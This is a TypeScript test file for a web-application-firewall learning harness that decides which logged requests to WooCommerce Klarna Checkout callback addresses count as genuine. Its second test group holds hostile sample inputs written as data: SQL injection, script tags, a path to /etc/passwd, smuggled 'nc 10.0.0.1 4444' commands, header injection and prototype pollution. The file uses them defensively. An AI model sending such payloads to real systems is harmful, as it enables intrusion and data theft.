import { describe, expect, test } from 'vitest';
import type { LoggedRequest } from '../../../../harness/evidence/logged-request.ts';
import { readCallback } from '../../../../harness/waf/learn/read-callback.ts';
import { anna, loopbackOf, notificationOf, own, pushOf, validationOf } from './logged.ts';

const names = await own();
const read = (request: LoggedRequest) => readCallback(request, names);
const whyNot = (request: LoggedRequest): string => {
  const found = read(request);
  return found.type === 'refused' ? found.why : found.type;
};
const at = (target: string): LoggedRequest => ({ ...pushOf(anna), target });
const push = `/wc-api/KCO_WC_Push/?kco_wc_order_id=${anna.order}`;

describe('addresses', () => {
  test.each([
    [push, 'pretty', []],
    [`/wc-api/KCO_WC_Push?kco_wc_order_id=${anna.order}`, 'no-slash', []],
    [`/?wc-api=KCO_WC_Push&kco_wc_order_id=${anna.order}`, 'plain', []],
    [`/butik/?wc-api=KCO_WC_Push&kco_wc_order_id=${anna.order}`, 'plain', ['butik']],
    [`/index.php${push}`, 'index.php', []],
    [`/sv${push}`, 'language', []],
    [`/shop/pt-br${push}`, 'language', ['shop']],
    [`/a/b/c${push}`, 'pretty', ['a', 'b', 'c']],
  ])('%s', (target, form, folders) => {
    expect(read(at(target))).toMatchObject({ type: 'callback', shape: { address: { kind: 'push', form, folders } } });
  });

  test.each([
    [`/wp-json/kco-block/order/${anna.order}/validate`, 'block-validation'],
    [`/index.php?rest_route=/kco-block/order/${anna.order}/validate`, 'block-validation'],
    [`/wp-json/kcowc/v1/address/${anna.order}`, 'address-update'],
  ])('%s', (target, kind) => {
    expect(read({ ...validationOf(anna), target })).toMatchObject({ type: 'callback', shape: { address: { kind } } });
  });

  test.each([
    `/wc-api//KCO_WC_Push/?kco_wc_order_id=${anna.order}`,
    `/x/../wc-api/KCO_WC_Push/?kco_wc_order_id=${anna.order}`,
    `/%77c-api/KCO_WC_Push/?kco_wc_order_id=${anna.order}`,
    `/wc-api/kco_wc_push/?kco_wc_order_id=${anna.order}`,
    '/wc-api/KCO_WC_Shell/',
    `${push}&kco_wc_order_id=1`,
    `${push}?a=1`,
    `${push}&a[]=1`,
    `/?wc-api=KCO_WC_Push&rest_route=/kco-block/order/${anna.order}/validate`,
    `http://shop.example${push}`,
    '/wp-json/kco-block/order/1/validate',
    `/wp-json/kco-block/order/${anna.order}/refund`,
  ])('%s is none', (target) => {
    expect(read(at(target)).type).toBe('refused');
  });

  test.each([
    '/',
    '/wp-json/wc/store/v1/cart',
    '/?s=kco_wc_push',
    '/wp-content/plugins/kco-block.js',
    '/wc-api/WC_Gateway_Paypal/',
  ])('%s is about something else', (target) => {
    expect(read(at(target)).type).toBe('other');
  });
});

describe('an attack that is sent to a callback’s address is not learnt', () => {
  const withProduct = (product: string) => validationOf({ ...anna, product });
  test.each([
    ['SQL in an id', at(`/wc-api/KCO_WC_Push/?kco_wc_order_id=1'%20UNION%20SELECT%201--`)],
    ['a script in an id', at('/wc-api/KCO_WC_Push/?kco_wc_order_id=%3Cscript%3E')],
    ['a path in an argument', at(`${push}&file=../../etc/passwd`)],
    ['a command in an argument', at(`${push}&x=nc%2010.0.0.1%204444;id`)],
    ['a session id of one’s own making', at(`${push}&kco_session_id=%0d%0aSet-Cookie:a`)],
    ['the session fixation itself', { ...pushOf(anna), method: 'GET' }],
    ['another method', { ...pushOf(anna), method: 'FOO' }],
    ['a push with a body', { ...pushOf(anna), body: 'a=1' }],
    ['a script in a product', withProduct('<script>alert(1)</script>')],
    ['SQL in a product', withProduct("' OR '1'='1")],
    ['a command in a product', withProduct('$(nc 10.0.0.1 4444)')],
    ['JSON that is none', { ...validationOf(anna), body: '{"order_id":' }],
    ['a list', { ...validationOf(anna), body: '[1]' }],
    ['a name like a value', validationOf(anna, (order) => Object.assign(order, { 'x" or 1=1': 1 }))],
    ['the prototype', { ...validationOf(anna), body: '{"__proto__":{"a":1}}' }],
    ['a value of no kind under a name of nobody’s', validationOf(anna, (order) => Object.assign(order, { x: '`id`' }))],
    ['a body of a hundred levels', { ...validationOf(anna), body: `${'{"a":'.repeat(100)}1${'}'.repeat(100)}` }],
    ['a body of thousands of names', validationOf(anna, (order) => Object.assign(order, many))],
  ])('%s', (_, request) => {
    expect(read(request).type).toBe('refused');
  });

  test('one that a rule stopped, with a name that no callback has', () => {
    const stopped = { ...at(`${push}&lang=sv`), status: 403, rules: ['942100'] };
    expect(whyNot(stopped)).toBe('stopped by a rule, and with names that no callback is known to have');
    expect(read({ ...stopped, status: 200 }).type).toBe('callback');
    expect(readCallback(stopped, names, new Set(['lang'])).type, 'the operator says that it is theirs').toBe(
      'callback',
    );
  });

  test('a callback that a rule stopped is one', () => {
    expect(read({ ...pushOf(anna), status: 403, rules: ['211180'] })).toMatchObject({ shape: { status: 403 } });
  });

  test('of what was sent nothing stands in the reason', () => {
    const reasons = [withProduct('<canary>'), at(`${push}&canary=%3Ccanary%3E`), { ...pushOf(anna), method: 'CANARY' }];
    for (const request of reasons) expect(whyNot(request)).not.toMatch(/canary/i);
  });

  test('what takes a regular expression long takes this no longer than the rest', () => {
    const long = [
      `${'a'.repeat(4_000)}!`,
      `${'&amp'.repeat(1_000)}`,
      `${'/a.'.repeat(1_300)}"`,
      `{"a":"${'x_'.repeat(2_000)}"}`,
    ];
    for (const product of long) expect(read(withProduct(product)).type).toBe('refused');
  });
});

test('a customer’s own request to the same address is none', () => {
  const request = loopbackOf(anna);
  expect(read(request).type).toBe('callback');
  const headers = request.headers?.map(
    ([name, value]) => [name, name === 'User-Agent' ? 'Mozilla/5.0' : value] as const,
  );
  expect(read({ ...request, ...(headers && { headers }) }).type).toBe('other');
  expect(read({ ...request, body: '{"payment_method":"bacs"}' }).type).toBe('other');
});

test('a body that the log has not, or has not whole', () => {
  const { body = '', ...request } = notificationOf(anna);
  expect(read(request).type).toBe('without body');
  expect(whyNot({ ...request, body: body.slice(0, 40) })).toBe('a body that the log has cut off');
});

const many = Object.fromEntries(
  Array.from({ length: 5_000 }, (_, index) => [`n${'abcdefghij'[index % 10]}${index % 90}`, 1]),
);
